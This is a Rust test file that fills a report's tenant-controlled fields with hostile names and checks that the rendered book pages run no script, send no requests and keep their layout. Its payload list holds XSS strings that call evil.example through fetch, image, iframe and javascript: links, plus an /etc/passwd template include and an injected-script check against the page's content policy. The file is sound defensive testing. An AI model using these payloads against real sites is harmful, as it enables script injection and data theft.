//! Whatever somebody typed into a name stays a name.

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};

use greenroom::results::Run;
use serde_json::{Value, json};

use super::layout::fits;
use super::reader::{SIZES, read_run};
use crate::rich::run;

/// Fields that hold a word of ours, a number of ours, or a time: no tenant can type there.
const OURS: &[&str] = &[
    "between",
    "$schema",
    "version",
    "masked",
    "mask",
    "started",
    "finished",
    "readiness",
    "kind",
    "level",
    "verdict",
    "outcome",
    "requirement",
    "reason",
    "row",
    "basis",
    "identity",
    "lobby",
    "tool",
    "time",
    "when",
    "validUntil",
    "expires",
    "digest",
    "read",
    "url",
    "file",
    "cloud",
    "signIn",
];

/// What a hostile administrator types, where `N` is a number that tells one from another.
fn hostile(number: usize) -> String {
    let names = [
        "<script>window.hacked = 1; fetch('http://evil.example/N')</script>",
        "<img src=\"http://evil.example/N.png\" onerror=\"window.hacked = 1\">",
        "</td></tr></table></main><iframe src=\"http://evil.example/N\"></iframe>",
        "{{#include /etc/passwd}} {{{content}}} {{#verdict teams-license}} N",
        "[N](javascript:window.hacked=1) ![N](http://evil.example/N.png)",
        "a | b | c\n\n# N\n\n<style>* { display: none }</style>",
        "\u{202e}reversed\u{202c} \u{0}\u{1b}[31m N \" ' ` --> ]]>",
        "<https://evil.example/N> <svg/onload=window.hacked=1> &lt;b&gt;",
        "```\n</code></pre><a href=\"http://evil.example/N\" onclick=\"window.hacked=1\">N</a>",
        "W",
    ];
    let name = names[number % names.len()].replace('N', &number.to_string());
    if name == "W" {
        format!("{}{number}", "W".repeat(10_000))
    } else {
        name
    }
}

/// The record with a hostile text wherever a tenant, or whoever wrote a file for it, can put one.
fn hostile_run() -> Run {
    let mut record = serde_json::to_value(run()).unwrap();
    fill("", &mut record, &mut 0);
    let mut run: Run = serde_json::from_value(record).unwrap();
    for (join, account) in run.joins.iter_mut().zip(&run.tenant.accounts) {
        join.account.clone_from(account);
    }
    run
}

fn fill(field: &str, value: &mut Value, number: &mut usize) {
    match value {
        // A day is nobody's to write.
        Value::Object(value) if value.get("kind").is_some_and(|kind| kind == "date") => {}
        Value::Object(fields) => {
            let entries = fields.iter_mut().filter(|(name, _)| {
                !["documents", "reading", "requirements"].contains(&name.as_str())
            });
            entries.for_each(|(name, value)| fill(name, value, number));
            if fields.contains_key("assignedPlans") {
                fields.insert(hostile(*number), json!(hostile(*number + 1)));
            }
        }
        Value::Array(items) => items.iter_mut().for_each(|item| fill(field, item, number)),
        Value::String(_) if OURS.contains(&field) || field == "id" && *number > 40 => {}
        Value::String(text) => {
            *number += 1;
            *text = hostile(*number);
        }
        _ => {}
    }
}

/// A proxy that answers nobody, and remembers what it was asked for.
fn trap() -> (String, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap().to_string();
    let asked = Arc::new(Mutex::new(Vec::new()));
    let log = asked.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().map_while(Result::ok) {
            let mut stream = stream;
            let mut head = [0; 512];
            let length = stream.read(&mut head).unwrap_or_default();
            let line = String::from_utf8_lossy(&head[..length]);
            log.lock()
                .unwrap()
                .push(line.lines().next().unwrap_or_default().to_owned());
            let _ = stream.write_all(b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\n\r\n");
        }
    });
    (address, asked)
}

#[test]
fn hostile_names_run_nothing_send_nothing_and_break_no_page() {
    let (proxy, asked) = trap();
    let run = hostile_run();
    read_run(&run, &proxy, async |reader| {
        for (width, height) in SIZES {
            reader.browser.set_window_size(width, height).await.unwrap();
            for page in reader.pages() {
                reader.goto(&page).await;
                reader.script("document.querySelectorAll('details').forEach(fold => { fold.open = true; })").await;
                let state = "return [window.hacked === undefined, document.querySelectorAll('main script, main img, \
                             main iframe, main style, main [onerror], main [onclick], main [onload], \
                             main a[href^=\"javascript:\"], main a[href*=\"//\"][href*=\"evil.example\"]').length, \
                             document.querySelector('main h1').checkVisibility(), \
                             document.querySelectorAll('main').length, \
                             !document.querySelector('main').innerText.includes('root:x:')]";
                assert_eq!(
                    reader.script(state).await,
                    json!([true, 0, true, 1, true]),
                    "{page}"
                );
                fits(reader, &format!("{page} at {width} px")).await;
            }
        }
        // The trap works: what leaves on purpose is seen.
        let leave = "location.href = 'http://evil.example/on-purpose'";
        reader.script(leave).await;
        reader.find("body").await;
    });
    let asked = asked.lock().unwrap();
    let evil: Vec<&String> = asked
        .iter()
        .filter(|line| line.contains("evil.example"))
        .collect();
    assert_eq!(evil.len(), 1, "{evil:?}");
    assert!(evil[0].contains("on-purpose"), "{evil:?}");
}

#[test]
fn the_policy_holds_for_the_book_itself_and_against_a_script_in_the_page() {
    // What is loaded is reported too, although it happens before anybody asks.
    const WATCH: &str = "window.broken = []; new ReportingObserver(reports => reports.forEach(report => \
        window.broken.push(report.body.blockedURL + ' ' + report.body.effectiveDirective)), \
        { types: ['csp-violation'], buffered: true }).observe()";
    const USE: &str = "document.querySelector('#mdbook-theme-toggle').click(); \
        document.querySelector('#mdbook-theme-navy').click(); \
        document.querySelector('#mdbook-search-toggle').click()";
    const ATTACK: &str = "const script = document.createElement('script'); \
        script.textContent = 'window.hacked = 1'; document.body.append(script); \
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked = 1\">')";
    const HACKED: &str = "const done = arguments[0]; \
        setTimeout(() => done([window.hacked === undefined, window.broken.length > 0]), 100)";
    read_run(&run(), "127.0.0.1:9", async |reader| {
        for page in reader.pages() {
            reader.goto(&page).await;
            reader.script(WATCH).await;
            reader.script(USE).await;
            let bar = reader
                .find("#mdbook-search-wrapper:not(.hidden) #mdbook-searchbar")
                .await;
            bar.send_keys("license").await.unwrap();
            reader.find("#mdbook-searchresults a").await;
            let broken = reader.script("return window.broken").await;
            assert_eq!(broken, json!([]), "{page}");
            reader.script(ATTACK).await;
            let state = reader.browser.execute_async(HACKED, vec![]).await.unwrap();
            assert_eq!(state, json!([true, true]), "{page}");
        }
    });
}
